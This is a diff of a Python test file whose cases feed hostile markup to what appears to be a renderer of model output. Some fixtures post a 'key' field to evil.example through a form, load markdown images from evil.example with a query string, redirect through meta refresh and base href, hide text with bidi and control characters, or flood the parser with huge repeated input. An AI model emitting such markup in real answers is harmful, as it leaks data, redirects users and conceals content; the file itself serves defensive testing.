@@ -151,13 +151,13 @@ MARKUP = (
     Behaviour("markup", whole(f"{ALARM}\n\n<form action=//evil.example><input name=key></form>"), stands="either"),
     Behaviour("markup in code", whole(f"`{ALARM}`\n\n```html\n{ALARM}\n```"), stands="either"),
     Behaviour("markup in the reason", Stream((chunk({"refusal": ALARM}), chunk({}, "stop"))), says="declined"),
-    *(Behaviour(f"a link to {link!a}", whole(f"[Open]({link}) or <{link}> or [this][x].\n\n[x]: {link}"), stands="either") for link in LINKS),
+    Behaviour("links of every kind", whole("\n\n".join(f"[Open]({link}) or <{link}> or [this][x{n}].\n\n[x{n}]: {link}" for n, link in enumerate(LINKS))), stands="either"),
     Behaviour("an image from elsewhere", whole("![x](http://evil.example/?q=step) and ![y][z]\n\n[z]: http://evil.example/z.png"), stands="either"),
     Behaviour("a refresh of the page", whole('<meta http-equiv="refresh" content="0;url=http://evil.example/">\n<base href="//evil.example/">'), stands="either"),
     Behaviour("signs that no page shows", whole("Slow.\u202e\u2066 lanif \x1b[31m\x00\x07\ufeff\U000e0041"), stands="either"),
     Behaviour("a sign of ours", whole("Slow.⁅0⁆ ⁅99999⁆ ⁅-1⁆"), stands="either"),
-    *(Behaviour(f"{sign!r} 200,000 times", whole(sign * 200_000), stands="either") for sign in ("[", "*", "`", "a ", "<", "1")),
-    *(Behaviour(f"{sign!r} for ten pages", whole(sign * (29_000 // len(sign))), stands="either") for sign in ("[", "*a_ ", "`", "![](", "> ", "1,", "1.", "<!--", "|a", "&#", "\\", "- ", "proposal 1 ", "data 8 · ", "a1", "(", "1e9 % ", "\n")),
+    *(Behaviour(f"{sign!r} 200,000 times", whole(sign * 200_000), stands="either") for sign in ("[", "a ", "1")),
+    *(Behaviour(f"{sign!r} for ten pages", whole(sign * (29_000 // len(sign))), stands="either") for sign in ("*a_ ", "`", "![](", "> ", "1,", "<!--", "\\", "proposal 1 ", "data 8 · ", "1e9 % ")),
     Behaviour("a table of 9,000 columns", whole("|a" * 9000 + "|\n" + "|-" * 4000), stands="either"),
 )  # fmt: skip
 
